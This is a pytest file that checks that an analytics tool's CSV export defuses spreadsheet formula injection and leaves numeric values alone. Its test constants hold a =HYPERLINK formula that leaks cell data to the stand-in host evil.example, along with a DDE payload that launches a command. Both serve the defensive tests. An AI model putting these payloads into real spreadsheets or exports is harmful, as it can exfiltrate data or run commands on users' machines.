"""CSV exports neutralise formula cells (RELIABILITY.md 36): an imported ``=HYPERLINK``
or ``=cmd|`` cell comes out as text a spreadsheet will not run; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from analytics.cohort import export, import_cohort
from analytics.csv_safe import neutralise_formulas, write_csv
from analytics.store import open_store

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def store(tmp_path: Path):
    s = open_store(url=f"sqlite:///{tmp_path / 'csv.db'}")
    yield s
    s.dispose()


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_imported_formula_cells_are_exported_as_text_and_negative_numbers_as_numbers(
        store, tmp_path):
    visits = pd.DataFrame({"patient_id": ["P-1", "P-1", "P-2"],
                           "date": ["2020-01-01", "2021-01-01", "2020-06-01"],
                           "referral": [HYPERLINK, DDE, "@SUM(1+1)"],
                           "delta_score": [-1.5, 2.0, -3.0]})
    visits.to_csv(tmp_path / "visits.csv", index=False)
    (tmp_path / "outcomes.csv").write_text("patient_id,date,event\nP-1,2022-01-01,death\n"
                                           "P-2,2022-01-01,censored\n")
    import_cohort(store, tmp_path / "visits.csv", tmp_path / "outcomes.csv")
    out = tmp_path / "cohort.csv"
    export(store, "cohort", out)
    # rows are ordered by pseudonym, which depends on the site secret: compare as pairs
    rows = _rows(out)
    assert sorted((r["referral"], float(r["delta_score"])) for r in rows) == sorted(
        [("'" + HYPERLINK, -1.5), ("'" + DDE, 2.0), ("'@SUM(1+1)", -3.0)])
    assert not any(r["delta_score"].startswith("'") for r in rows)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@A1", "\t=1", "\r=1"],
                         ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_every_formula_start_is_neutralised_in_text_cells_and_headers(cell):
    df = pd.DataFrame({"text": [cell, "plain"], cell: [1, 2]})
    got = next(csv.reader(io.StringIO(write_csv(df, index=False), newline=""), strict=True))
    assert got == ["text", "'" + cell]
    back = pd.read_csv(io.StringIO(write_csv(df, index=False)))
    assert back["text"].tolist() == ["'" + cell, "plain"]


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_formula_row():
    df = pd.DataFrame({"note": ["harmless\r=cmd|' /C calc'!A0"], "n": [1]})
    rows = list(csv.reader(io.StringIO(write_csv(df, index=False), newline=""), strict=True))
    assert rows == [["note", "n"], ["harmless\r=cmd|' /C calc'!A0", "1"]]


def test_numbers_in_numeric_and_mixed_columns_are_left_alone():
    df = pd.DataFrame({"score": [-1.5, 0.0], "mixed": [-2, "-x"], "when": pd.to_datetime(
        ["2020-01-01", "2021-01-01"]), "flag": [True, False]})
    safe = neutralise_formulas(df)
    assert safe["score"].tolist() == [-1.5, 0.0] and safe["score"].dtype == "float64"
    assert safe["mixed"].tolist() == [-2, "'-x"]
    assert safe["when"].equals(df["when"]) and safe["flag"].tolist() == [True, False]
    assert df["mixed"].tolist() == [-2, "-x"]  # the caller's frame is not changed
